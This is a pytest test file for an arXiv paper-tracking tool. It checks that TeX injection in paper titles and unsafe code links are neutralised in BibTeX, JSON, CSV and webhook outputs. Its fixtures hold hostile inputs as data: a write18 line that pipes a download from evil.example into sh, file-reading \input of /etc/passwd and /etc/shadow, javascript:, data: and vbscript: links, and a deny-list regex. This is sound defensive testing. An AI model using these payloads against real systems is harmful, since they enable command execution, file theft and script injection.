"""Hostile data reaches no data output in a form that runs: BibTeX, JSON/CSV exports, webhooks.

One real CLI ``run`` over papers whose titles carry TeX that would read files and run shell
commands (``\\input{/etc/passwd} \\immediate\\write18{...}``), and whose Hugging Face entries give
``javascript:``, ``data:``, ``vbscript:``, ``//host`` and off-host code links. Every ``.bib`` is
parsed back with bibtexparser; the JSON and CSV exports and the generic webhook's body are read
as data. Filesystem errors around the lock file are checked on the CLI too.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from arxiv_radar.publish.export import read_json_exports
from arxiv_radar.store import Store
from tests.cli_runner import run_cli
from tests.servers.arxiv import FakeArxiv, make_paper
from tests.servers.fake_apis import FakeHuggingFace
from tests.servers.http import LocalServer, Reply, local_server

bibtexparser = pytest.importorskip("bibtexparser")

TEX_ATTACK = r"\input{/etc/passwd} \immediate\write18{curl evil.example | sh} Splatting"
TEX_IN_MATH = r"Splatting $\input{/etc/shadow}$ and $^^5cinput{/etc/group}$ at $\mathcal{O}(n)$"
TEX_FINE = r"Schr\"odinger splatting \emph{cats} na\"{\i}ve $\alpha_1 \leq \beta$"
# Control sequences that read or write files, run commands or redefine TeX.
DANGEROUS = re.compile(
    r"\\(?:input|include|immediate|write|openout|openin|read|def|edef|gdef|let|csname|catcode"
    r"|newcommand|renewcommand|special|directlua|endcsname)(?![A-Za-z])"
)
CODE_LINKS = {
    "2611.00011": "javascript:alert(document.cookie)",
    "2611.00012": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "2611.00013": "vbscript:msgbox(1)",
    "2611.00014": "//evil.example/o/n",
    "2611.00015": "https://evil.example/o/n",
    "2611.00016": "https://github.com/good/repo",
}
KEPT = {"2611.00016": "https://github.com/good/repo"}

CONFIG = """\
categories: [cs.CV]
topics:
  - name: Splatting
    query: 'ti:splatting'
    categories: [cs.CV]
code_links:
  finders: [huggingface]
  request_interval: 0
feeds:
  csv: true  # opt-in; checked below like the JSON
chat:
  - service: generic
    webhook_env: GENERIC_WEBHOOK_URL
endpoints:
  api_url: {url}/api/query
  rss_url: {url}/rss
  hf_url: {url}
http:
  request_interval: 0
  max_retries: 0
"""


@dataclass
class Outcome:
    root: Path
    result: subprocess.CompletedProcess[str]
    server: LocalServer

    def bib_files(self) -> list[Path]:
        return sorted((self.root / "docs").rglob("*.bib"))

    def webhook_papers(self) -> dict[str, dict[str, Any]]:
        (post,) = self.server.requests_to("/hook")
        body = json.loads(post.body)
        return {p["id"]: p for topic in body["topics"] for p in topic["papers"]}


def cli(
    root: Path, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return run_cli(*args, cwd=root, env=env, columns=4000, timeout=90)


def _papers() -> list[Any]:
    recent = datetime.now(timezone.utc) - timedelta(hours=2)
    titled = [
        make_paper("2611.00001", TEX_ATTACK, published=recent, comment=r"\input{/etc/hosts}"),
        make_paper("2611.00002", TEX_IN_MATH, published=recent),
        make_paper("2611.00003", TEX_FINE, published=recent),
    ]
    linked = [make_paper(i, f"Splatting {i}", published=recent) for i in CODE_LINKS]
    return titled + linked


@pytest.fixture(scope="module")
def outcome(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outcome]:
    root = tmp_path_factory.mktemp("hostile-outputs")
    with local_server() as server:
        FakeArxiv(server, ["cs.CV"]).announce(date(2026, 11, 24), _papers())
        hf = FakeHuggingFace(server)
        for arxiv_id, link in CODE_LINKS.items():
            hf.paper(arxiv_id, repo=link)
        for arxiv_id in ("2611.00001", "2611.00002", "2611.00003"):
            hf.missing(arxiv_id)
        server.route("POST", "/hook", Reply(200, "ok"))
        (root / "arxiv-radar.yml").write_text(CONFIG.format(url=server.url), encoding="utf-8")
        result = cli(root, "run", env={"GENERIC_WEBHOOK_URL": f"{server.url}/hook"})
        yield Outcome(root, result, server)


def test_the_run_published_everything(outcome: Outcome) -> None:
    assert outcome.result.returncode == 0, outcome.result.stderr
    assert len(outcome.bib_files()) >= 2  # the month's export and the topic's
    assert len(outcome.webhook_papers()) == 3 + len(CODE_LINKS)


def test_bibtex_exports_neutralise_tex_commands(outcome: Outcome) -> None:
    for path in outcome.bib_files():
        text = path.read_text("utf-8")
        entries = {e["ID"]: e for e in bibtexparser.loads(text).entries}
        assert len(entries) == 3 + len(CODE_LINKS), path  # the parser read every record
        for entry in entries.values():
            for field, value in entry.items():
                assert not DANGEROUS.search(value), (path, field, value)
                assert "^^" not in value, (path, field, value)
        titles = " ".join(e["title"] for e in entries.values())
        assert "input" in titles and "/etc/passwd" in titles  # shown, as text
        assert r"Schr\"odinger" in titles and r"\emph{cats}" in titles  # accents stay accents
        assert r"$\mathcal{O}(n)$" in titles and r"$\alpha_1 \leq \beta$" in titles


def test_json_and_csv_exports_keep_only_http_links_on_code_hosts(outcome: Outcome) -> None:
    exports = outcome.root / "docs" / "exports"
    papers = {p["arxiv_id"]: p for p in read_json_exports(exports)}
    assert {i: papers[i]["code_url"] for i in CODE_LINKS if papers[i]["code_url"]} == KEPT
    (month,) = json.loads((exports / "index.json").read_text("utf-8"))["months"]
    rows = list(csv.DictReader(io.StringIO((exports / month["csv"]).read_text("utf-8"))))
    assert {r["arxiv_id"]: r["code_url"] for r in rows if r["code_url"]} == KEPT


def test_generic_webhook_keeps_only_http_links_on_code_hosts(outcome: Outcome) -> None:
    papers = outcome.webhook_papers()
    assert {i: p["code_url"] for i, p in papers.items() if p["code_url"]} == KEPT


# --- the lock file ------------------------------------------------------------------------------

LOCK_CONFIG = """\
database: {database}
categories: [cs.CV]
topics:
  - name: Splatting
    query: 'ti:splatting'
"""


def _one_line_user_error(result: subprocess.CompletedProcess[str], *expected: str) -> None:
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 2 and lines[1].lstrip().startswith("fix:"), lines  # error, then fix
    for text in expected:
        assert text in result.stderr


def test_a_lock_path_that_is_a_folder_is_a_one_line_error(tmp_path: Path) -> None:
    (tmp_path / "arxiv-radar.db.lock").mkdir()
    (tmp_path / "arxiv-radar.yml").write_text(
        LOCK_CONFIG.format(database="arxiv-radar.db"), encoding="utf-8"
    )
    with Store.open(tmp_path / "arxiv-radar.db"):
        pass  # status only looks for the lock in a database that needs no migration
    for command in ("fetch", "status"):
        result = cli(tmp_path, command)
        _one_line_user_error(result, "arxiv-radar.db.lock", "is a folder", "remove or rename")


def _read_only_folder(tmp_path: Path) -> Path:
    """A folder this process cannot create files in (root ignores permission bits: use sysfs)."""
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    for candidate in (folder, Path("/sys/kernel")):
        try:
            (candidate / "probe").touch()
        except OSError:
            return candidate
        (candidate / "probe").unlink()
    pytest.skip("no read-only folder available")


def test_a_read_only_workspace_is_a_one_line_error(tmp_path: Path) -> None:
    folder = _read_only_folder(tmp_path)
    database = folder / "arxiv-radar.db"
    (tmp_path / "arxiv-radar.yml").write_text(
        LOCK_CONFIG.format(database=database), encoding="utf-8"
    )
    result = cli(tmp_path, "fetch")
    _one_line_user_error(result, f"{database}.lock", "database:", "writable")
